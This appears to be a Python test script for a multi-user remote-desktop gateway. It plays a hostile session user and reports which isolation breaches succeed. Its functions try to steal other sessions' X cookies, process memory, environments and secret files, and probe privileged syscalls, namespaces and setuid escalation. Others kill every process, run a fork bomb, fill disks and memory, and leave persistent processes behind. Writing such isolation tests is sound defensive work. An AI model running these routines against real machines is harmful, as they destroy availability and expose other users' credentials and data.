#!/usr/bin/python3
"""What a hostile user does in a session: run as its application, says in one line of JSON how far each attempt came.

usage: attacks.py ATTACK FACTS, with facts about the victims in a JSON file: who attacks knows everything but has nothing.
An attempt that fails is the name of its errno; what succeeds is told in other words.
"""
import ctypes, errno, json, os, signal, socket, stat, subprocess, sys, time

libc = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    """syscall(2)."""
    ctypes.set_errno(0)
    words = [ctypes.c_long(word) if isinstance(word, int) else word for word in arguments]
    if libc.syscall(ctypes.c_long(number), *words) == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "done"


def attempt(act, *arguments):
    """What came of it."""
    try:
        answer = act(*arguments)
        return "done" if answer is None else answer if isinstance(answer, str) else repr(answer)[:200]
    except OSError as error:
        return errno.errorcode.get(error.errno, type(error).__name__)


def connect(address, family=socket.AF_UNIX, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as peer:
        peer.settimeout(3)
        peer.connect(address)
        return "connected"


def read(path):
    with open(path, "rb") as file:
        return "read %r" % file.read(64)


def read_all(path):
    with open(path) as file:
        return file.read()


def write(path, text=None):
    """Writes `text`, or what is there already: what succeeds changes nothing."""
    file = os.open(path, os.O_RDWR if text is None else os.O_WRONLY)
    os.write(file, os.read(file, 4096) if text is None else text)
    return "written"


def others(facts):
    """Victims whose displays have other numbers than its own, which may be theirs on another host."""
    return [victim for victim in facts["victims"] if ":%d" % victim["display"] != os.environ["DISPLAY"]]


def pids():
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]


def tree(start="/"):
    """Every folder that can be listed, with what is in it, but /proc and what is the user's own."""
    own = {"/proc", "/sys", os.environ["HOME"]}
    for folder, folders, files in os.walk(start):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in own]
        yield folder, folders, files


# Sight

def x_cookie(facts):
    """Reads the cookies of other sessions, and connects to their X displays."""
    told = {"files": {}, "sockets": {}}
    guesses = ["/run/maxwell/x/auth", "/run/maxwell/x/passwd", "/root/.Xauthority", "/home/bob/.Xauthority"]
    for victim in others(facts):
        number, session = victim["display"], victim["session"]
        folder = "/run/maxwell/displays/%d" % number
        guesses += [folder + "/x/auth", folder + "/x/passwd", folder + "/state"]
        guesses += ["/tmp/.maxwell-auth-%d-%s" % (number, session)]
        told["sockets"]["path %d" % number] = attempt(connect, "/tmp/.X11-unix/X%d" % number)
        told["sockets"]["abstract %d" % number] = attempt(connect, "\0/tmp/.X11-unix/X%d" % number)
        for address in facts["addresses"]:
            told["sockets"]["%s %d" % (address, number)] = attempt(connect, (address, 6000 + number), socket.AF_INET)
    for pid in pids():
        guesses += ["/proc/%d/root%s" % (pid, path) for path in guesses if not path.startswith("/proc")][:40]
    for path in guesses:
        told["files"][path] = attempt(read, path)
    told["own"] = attempt(connect, "/tmp/.X11-unix/X" + os.environ["DISPLAY"][1:])
    told["displays"] = sorted(os.listdir("/tmp/.X11-unix"))
    return told


def rfb_socket(facts):
    """Connects to every socket there is, and to those of the host that it knows of."""
    known = ["/run/maxwell/data.sock", "/run/maxwell/x/rfb"]
    for victim in facts["victims"]:
        folder = "/run/maxwell/displays/%d" % victim["display"]
        known += [folder + "/x/rfb", folder + "/keep.sock", folder + "/door.sock"]
    for folder, _, files in tree():
        for name in files:
            path = os.path.join(folder, name)
            if stat.S_ISSOCK(os.lstat(path).st_mode):
                known.append(path)
    return {path: attempt(connect, path) for path in known}


def processes(facts):
    """Every process it can see."""
    found = []
    for pid in pids():
        try:
            with open("/proc/%d/cmdline" % pid) as file:
                words = file.read().replace("\0", " ")
            found.append({"pid": pid, "uid": os.stat("/proc/%d" % pid).st_uid, "words": words})
        except OSError:
            pass
    return {"processes": found}


def signals(facts):
    """Signals everything that may have a number, then everything it may."""
    told = {}
    for pid in set(range(1, 70_000)) | set(facts["processes"]):
        if pid != os.getpid():
            answer = attempt(os.kill, pid, signal.SIGKILL)
            if answer != "ESRCH":
                told[pid] = answer
    for group in [1, *facts["processes"]]:
        answer = attempt(os.killpg, group, signal.SIGKILL)
        if answer != "ESRCH":
            told[-group] = answer
    told["all"] = attempt(os.kill, -1, signal.SIGSTOP)
    os.kill(-1, signal.SIGCONT)
    return told


def roots(facts):
    """Reaches for the files, the memory and the namespaces of processes that are not its own."""
    told = {}
    for pid in pids():
        if os.stat("/proc/%d" % pid).st_uid == os.getuid():
            continue
        for name in ["root", "cwd", "fd", "map_files"]:
            told["%d/%s" % (pid, name)] = attempt(os.listdir, "/proc/%d/%s" % (pid, name))
        for name in ["environ", "mem", "maps", "stack", "syscall", "auxv", "io"]:
            told["%d/%s" % (pid, name)] = attempt(read, "/proc/%d/%s" % (pid, name))
        for name in ["mnt", "net", "pid", "user"]:
            told["%d/ns/%s" % (pid, name)] = attempt(os.open, "/proc/%d/ns/%s" % (pid, name), os.O_RDONLY)
    for path in facts["secrets"]:
        told[path] = attempt(read, path)
        for pid in pids():
            told["/proc/%d/root%s" % (pid, path)] = attempt(read, "/proc/%d/root%s" % (pid, path))
    return told


def abstract_sockets(facts):
    """Connects to abstract sockets of the host and of other sessions."""
    with open("/proc/net/unix") as file:
        seen = [line.split()[7] for line in file if len(line.split()) > 7]
    names = facts["abstract"] + ["/tmp/.X11-unix/X%d" % victim["display"] for victim in others(facts)]
    return {"seen": [name for name in seen if name.startswith("@")],
            "connected": {name: attempt(connect, "\0" + name) for name in names}}


def shared_memory(facts):
    """Looks for memory that others share, by both ways there are."""
    with open("/proc/sysvipc/shm") as file:
        segments = file.read().split("\n")[1:-1]
    keys = {key: attempt(call, 29, key, 0, 0) for key in facts["keys"]}  # shmget
    return {"segments": segments, "keys": keys, "files": {name: attempt(read, "/dev/shm/" + name) for name in facts["shared"]}}


# Privilege

NEW = {"mount": 0x00020000, "cgroup": 0x02000000, "uts": 0x04000000, "ipc": 0x08000000, "user": 0x10000000,
       "pid": 0x20000000, "net": 0x40000000, "time": 0x80}


def namespaces(facts):
    """Makes namespaces of its own, by every call that makes them."""
    told = {}
    for name, flag in NEW.items():
        told["unshare " + name] = attempt(call, 272, flag)
    told["unshare user and all"] = attempt(call, 272, NEW["user"] | NEW["mount"] | NEW["net"] | NEW["pid"])

    def clone(flag):
        ctypes.set_errno(0)
        child = libc.syscall(56, flag | signal.SIGCHLD, 0, 0, 0, 0)
        if child == 0:
            os._exit(0)
        if child < 0:
            raise OSError(ctypes.get_errno(), "")
        os.waitpid(child, 0)
    for name in ["user", "mount", "net"]:
        told["clone " + name] = attempt(clone, NEW[name])
    told["clone3"] = attempt(call, 435, ctypes.create_string_buffer(88), 88)
    told["setns"] = attempt(lambda: call(308, os.open("/proc/1/ns/net", os.O_RDONLY), 0))
    told["setns own"] = attempt(lambda: call(308, os.open("/proc/self/ns/net", os.O_RDONLY), 0))
    told["unshare(1)"] = "%d" % subprocess.run(["unshare", "-Ur", "true"], stderr=subprocess.DEVNULL).returncode
    return told


def system_calls(facts):
    """Asks for what only the system itself may do, and for what reaches into the kernel or into others."""
    room = ctypes.create_string_buffer(4096)
    path = ctypes.c_char_p(b"/tmp")
    asked = {
        "mount": (165, ctypes.c_char_p(b"none"), path, ctypes.c_char_p(b"tmpfs"), 0, 0), "umount2": (166, path, 2),
        "pivot_root": (155, path, path), "chroot": (161, path), "swapon": (167, path, 0), "reboot": (169, 0xfee1dead, 1, 0, 0),
        "init_module": (175, room, 64, path), "finit_module": (313, 0, path, 0), "delete_module": (176, path, 0),
        "kexec_load": (246, 0, 0, 0, 0), "kexec_file_load": (320, 0, 0, 0, 0, 0), "add_key": (248, path, path, room, 1, -4),
        "request_key": (249, path, path, 0, -4), "keyctl": (250, 0, -3, 1), "bpf": (321, 0, room, 64),
        "perf_event_open": (298, room, 0, -1, -1, 0), "userfaultfd": (323, 0), "io_uring_setup": (425, 1, room),
        "io_uring_enter": (426, 0, 0, 0, 0, 0, 0), "io_uring_register": (427, 0, 0, 0, 0), "ptrace": (101, 16, 1, 0, 0),
        "ptrace a child": (101, 0, 0, 0, 0), "process_vm_readv": (310, 1, room, 1, room, 1, 0),
        "process_vm_writev": (311, 1, room, 1, room, 1, 0), "open_by_handle_at": (304, -100, room, 0),
        "name_to_handle_at": (303, -100, path, room, room, 0), "open_tree": (428, -100, path, 1),
        "move_mount": (429, -100, path, -100, path, 0), "fsopen": (430, ctypes.c_char_p(b"tmpfs"), 0), "fsmount": (432, 0, 0, 0),
        "fspick": (433, -100, path, 0), "mount_setattr": (442, -100, path, 0, room, 32), "quotactl": (179, 0, 0, 0, 0),
        "acct": (163, path), "syslog": (103, 3, room, 64), "iopl": (172, 3), "ioperm": (173, 0, 8, 1),
        "settimeofday": (164, room, 0), "sethostname": (170, path, 4), "lookup_dcookie": (212, 0, room, 64),
    }
    return {name: attempt(call, *words) for name, words in asked.items()}


def setuid_programs(facts):
    """Runs what would make others root, and looks at what it is itself."""
    with open("/proc/self/status") as file:
        status = dict(line.split(":\t", 1) for line in file.read().split("\n") if ":\t" in line)
    told = {name: status[name].strip() for name in ["Uid", "Gid", "CapEff", "CapPrm", "CapInh", "CapBnd", "CapAmb",
                                                    "NoNewPrivs", "Seccomp"]}
    found = []
    for folder, _, files in tree():
        for name in files:
            path = os.path.join(folder, name)
            mode = os.lstat(path).st_mode
            if stat.S_ISREG(mode) and mode & (stat.S_ISUID | stat.S_ISGID):
                found.append(path)
    told["found"] = found
    quiet = {"stdin": subprocess.DEVNULL, "stdout": subprocess.PIPE, "stderr": subprocess.DEVNULL, "timeout": 10}
    told["su"] = subprocess.run(["su", "-c", "id -u"], **quiet).stdout.decode()
    told["mount"] = "%d" % subprocess.run(["mount", "-t", "tmpfs", "none", "/tmp"], **quiet).returncode
    own = os.environ["HOME"] + "/own-id"
    subprocess.run(["cp", "/usr/bin/id", own], check=True)
    os.chmod(own, 0o6755)
    told["own"] = subprocess.run([own, "-u"], **quiet).stdout.decode().strip()
    os.unlink(own)
    for name, act in {"setuid": os.setuid, "setgid": os.setgid}.items():
        told[name] = attempt(act, 0)
    told["setgroups"] = attempt(os.setgroups, [0])
    told["chown"] = attempt(os.chown, os.environ["HOME"], 0, 0)
    return told


def devices(facts):
    """Lists and makes devices, and opens those of a machine."""
    told = {"there": sorted(os.listdir("/dev"))}
    for folder in [os.environ["HOME"], "/tmp", "/dev/shm", "/dev", "/var/tmp"]:
        for kind, name in [(stat.S_IFCHR, "character"), (stat.S_IFBLK, "block")]:
            path = "%s/%s-device" % (folder, name)
            told["made " + path] = attempt(os.mknod, path, kind | 0o666, os.makedev(1, 1))
    for name in ["mem", "kmem", "port", "sda", "vda", "loop0", "loop-control", "kvm", "fuse", "net/tun", "vhost-net",
                 "vsock", "uinput", "tty0", "tty1", "hpet", "cpu/0/msr", "dri/card0", "kmsg", "mapper/control"]:
        told["opened " + name] = attempt(os.open, "/dev/" + name, os.O_RDWR)
    with open("/proc/self/mountinfo") as file:
        told["home"] = [line.split()[5] for line in file if line.split()[4] == os.environ["HOME"]][-1]
    return told


def system_tree(facts):
    """Writes wherever it is let."""
    told = {"writable": [], "settings": {}}
    for folder, folders, files in tree():
        if os.access(folder, os.W_OK) and attempt(os.mkdir, folder + "/written") == "done":
            os.rmdir(folder + "/written")
            told["writable"].append(folder)
        told["writable"] += [path for path in (os.path.join(folder, name) for name in files)
                             if not os.path.islink(path) and os.path.isfile(path) and os.access(path, os.W_OK)]
    for path in ["kernel/hostname", "kernel/core_pattern", "kernel/yama/ptrace_scope", "net/ipv4/ip_forward",
                 "vm/overcommit_memory", "fs/protected_symlinks", "kernel/ns_last_pid"]:
        told["settings"][path] = attempt(write, "/proc/sys/" + path)
    told["settings"]["sysrq"] = attempt(write, "/proc/sysrq-trigger", b"h")
    told["settings"]["oom"] = attempt(write, "/proc/self/oom_score_adj", b"-1000")
    return told


# Network

def network(facts):
    """Talks to every address that it knows of, by every protocol."""
    told = {"interfaces": [name for _, name in socket.if_nameindex()]}
    for address, port in facts["places"]:
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        told["tcp %s %d" % (address, port)] = attempt(connect, (address, port), family)

        def send(address=address, port=port, family=family):
            with socket.socket(family, socket.SOCK_DGRAM) as peer:
                peer.sendto(b"attack\n", (address, port))
            return "sent"
        told["udp %s %d" % (address, port)] = attempt(send)

        def echo(address=address, family=family):
            protocol = socket.IPPROTO_ICMPV6 if family == socket.AF_INET6 else socket.IPPROTO_ICMP
            with socket.socket(family, socket.SOCK_DGRAM, protocol) as peer:
                peer.sendto(b"\x08\0\0\0\0\0\0\0", (address, 0))
            return "sent"
        told["icmp %s" % address] = attempt(echo)
    for name, family, kind, protocol in [
            ("raw", socket.AF_INET, socket.SOCK_RAW, 255), ("raw icmp", socket.AF_INET, socket.SOCK_RAW, 1),
            ("raw 6", socket.AF_INET6, socket.SOCK_RAW, 58), ("packet", socket.AF_PACKET, socket.SOCK_RAW, 0x300),
            ("packet datagram", socket.AF_PACKET, socket.SOCK_DGRAM, 0x300)]:
        told[name] = attempt(lambda: socket.socket(family, kind, protocol).close())
    told["vsock"] = attempt(lambda: connect((2, 22), socket.AF_VSOCK))
    # Bringing up an interface of one's own (rtnetlink(7)): RTM_NEWLINK for lo, down.
    def link():
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as peer:
            body = b"\0\0\0\0" + (1).to_bytes(4, "little") + (0).to_bytes(4, "little") + (1).to_bytes(4, "little")
            peer.send((16 + len(body)).to_bytes(4, "little") + (16).to_bytes(2, "little") + (5).to_bytes(2, "little")
                      + (1).to_bytes(4, "little") + (0).to_bytes(4, "little") + body)
            answer = peer.recv(4096)
            code = -int.from_bytes(answer[16:20], "little", signed=True)
            if code:
                raise OSError(code, "")
        return "done"
    told["netlink"] = attempt(link)
    for name in facts["names"]:
        try:
            told["name " + name] = repr(socket.getaddrinfo(name, 80))[:80]
        except OSError as error:
            told["name " + name] = type(error).__name__
    return told


# Limits

def memory(facts):
    """Takes memory until it is ended for it: in a child, whose end is told."""
    child = os.fork()
    if child == 0:
        taken = []
        while True:
            taken.append(bytearray(b"x" * (16 << 20)))
    return {"ended by": os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])}


def fork_bomb(facts):
    """Starts processes that start processes, for a while."""
    end = time.monotonic() + facts["seconds"]
    while time.monotonic() < end:
        # Parents and children alike: each of them is the bomb.
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)
    return {}


def fill(facts):
    """Writes to every place there is until there is no more room."""
    told = {}
    for folder in ["/tmp", "/dev/shm", "/var/tmp", "/run", "/var", "/home", "/etc"]:
        path, size = folder + "/filler", 0
        try:
            with open(path, "wb", buffering=0) as file:
                while size < facts["most"]:
                    size += file.write(b"x" * (1 << 20))
            reason = "all of it"
        except OSError as error:
            reason = errno.errorcode[error.errno]
        told[folder] = [size >> 20, reason]
        attempt(os.unlink, path)
    return told


def descriptors(facts):
    """Opens 100,000 files."""
    held = []
    try:
        for _ in range(100_000):
            held.append(os.open("/dev/null", os.O_RDONLY))
        reason = "all of them"
    except OSError as error:
        reason = errno.errorcode[error.errno]
    return {"held": len(held), "reason": reason}


# What stays

def outlive(facts):
    """Leaves processes behind in every way it knows."""
    def ignore():
        for number in range(1, 65):
            if number not in (signal.SIGKILL, signal.SIGSTOP, 32, 33):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass

    def leave(*words):
        if os.fork() == 0:
            os.setsid()
            ignore()
            if os.fork() == 0:
                os.chdir("/")
                os.execvp(words[0], words)
            os._exit(0)
    leave("sleep", facts["mark"])
    leave("nohup", "sleep", facts["mark"])
    leave("sh", "-c", "trap '' 1 2 3 15; while :; do sleep %s; done" % facts["mark"])
    # One that is never the same for long.
    leave("python3", "-c", "import os, time\nwhile True:\n  if os.fork(): os._exit(0)\n  os.setsid()\n  time.sleep(0.001) #" + facts["mark"])
    time.sleep(0.5)
    return {"left": sum(facts["mark"] in attempt(read_all, "/proc/%d/cmdline" % pid) for pid in pids())}


def own_directory(facts):
    """Puts a way to somewhere else in the place of its session's directory."""
    own = os.environ["SESSIONDIR"]
    os.chdir(os.environ["HOME"])
    os.rename(own, own + "-mine")
    os.symlink(facts["target"], own)
    return {"target": attempt(os.listdir, facts["target"])}


# What does not run in a session

def daemon(facts):
    """Reaches from a daemon's account for what the other parts of the gateway have."""
    def ask(path, line):
        with socket.socket(socket.AF_UNIX) as peer:
            peer.settimeout(5)
            peer.connect(path)
            peer.sendall(line.encode())
            return peer.recv(4096).decode(errors="replace")
    told = {"files": {path: attempt(read, path) for path in facts["files"]},
            "folders": {path: attempt(os.listdir, path) for path in facts["folders"]},
            "sockets": {path: attempt(connect, path) for path in facts["sockets"]},
            "asked": {name: attempt(ask, *words) for name, words in facts["asks"].items()}, "processes": {}}
    for pid in facts["processes"]:
        told["processes"]["signal %d" % pid] = attempt(os.kill, pid, 0)
        for name in ["environ", "mem", "fd/0"]:
            told["processes"]["%s %d" % (name, pid)] = attempt(read, "/proc/%d/%s" % (pid, name))
    return told


with open(sys.argv[2]) as file:
    answer = globals()[sys.argv[1]](json.load(file))
print(json.dumps({"attack": sys.argv[1], "told": answer}), flush=True)
